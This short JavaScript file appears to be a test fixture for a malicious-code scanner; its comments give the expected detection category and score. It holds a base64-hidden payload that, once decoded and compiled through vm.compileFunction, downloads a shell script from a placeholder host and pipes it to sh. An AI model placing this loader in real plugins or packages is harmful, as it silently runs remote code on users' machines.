// expect: category=code-generation min=80 context=plugin,package
// why: vm.compileFunction turns a decoded body into a function that receives require.
import { compileFunction } from 'node:vm';
import { createRequire } from 'node:module';

const req = createRequire(import.meta.url);
const body = atob(
  'cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgLXMgaHR0cHM6Ly9kbC5leGFtcGxlL3Muc2ggfCBzaCcp'
);

const run = compileFunction(body, ['require']);
run(req);
